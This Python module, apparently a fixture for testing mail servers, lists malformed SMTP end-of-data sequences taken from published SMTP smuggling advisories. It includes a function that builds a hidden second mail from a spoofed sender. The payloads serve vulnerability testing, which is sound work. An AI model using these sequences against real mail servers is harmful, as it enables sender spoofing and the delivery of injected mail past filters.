"""What some server once took for the end of a content though it is none, and a second mail smuggled behind it.

RFC 5321 §4.1.1.4 has one end, CRLF.CRLF. The others come from the advisories on SMTP smuggling (CVE-2023-51764 Postfix,
-51765 Sendmail, -51766 Exim, CVE-2024-27938 Postal, CVE-2024-32178 aiosmtpd) and the tools that search for more.
"""

from collections.abc import Mapping
from itertools import product
from typing import Final

PROPER: Final = b"\r\n.\r\n"

_NEWLINES: Final = (b"\n", b"\r", b"\r\n", b"\r\r\n", b"\n\r", b"\r\n\n", b"\r\n\0", b"\0\r\n")
_PAIRED: Final = tuple(one + b"." + other for one, other in product(_NEWLINES, _NEWLINES))
_ODD: Final = (b"\r\n.\0\r\n", b"\n\n.\r\n", b"\r\n.\r\0\n", b"\r.\n\r\n", b"\n.\r\n.\n")
_LOOKALIKES: Final = (b"\x0b", b"\x0c", b"\x1a", b"\x1c", b"\x1e", b"\x85", b"\xc2\x85", b"\xe2\x80\xa8", b"\t", b" ")

BARE_ENDS: Final = tuple(ending for ending in dict.fromkeys(_PAIRED + _ODD) if PROPER not in ending)
"""With a bare CR, a bare LF or a NUL."""

LIKE_ENDS: Final = tuple(
    ending for octets in _LOOKALIKES for ending in (b"\r\n." + octets + b"\r\n", b"\r\n" + octets + b".\r\n")
) + (b"\x85.\x85", b"\xe2\x80\xa8.\xe2\x80\xa8", b"\r\n..\r\n", b"\r\n. \r\n", b"\r\n%2e\r\n", b"\r\n=2E\r\n")
"""Of octets that are no line end, and so an ordinary text."""

ENDS: Final[Mapping[str, bytes]] = {repr(ending)[2:-1]: ending for ending in (*BARE_ENDS, *LIKE_ENDS)}
"""All of them by a name that can be read."""


def smuggled(
    *, sender: str = "evil@example.org", recipient: str = "447700900199@sms.example.net", text: str = "smuggled"
) -> bytes:
    """Return the commands and the content of a second mail, with its proper end."""
    envelope = f"MAIL FROM:<{sender}>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
    return envelope.encode() + f"From: {sender}\r\nSubject: smuggled\r\n\r\n{text}\r\n.\r\n".encode()
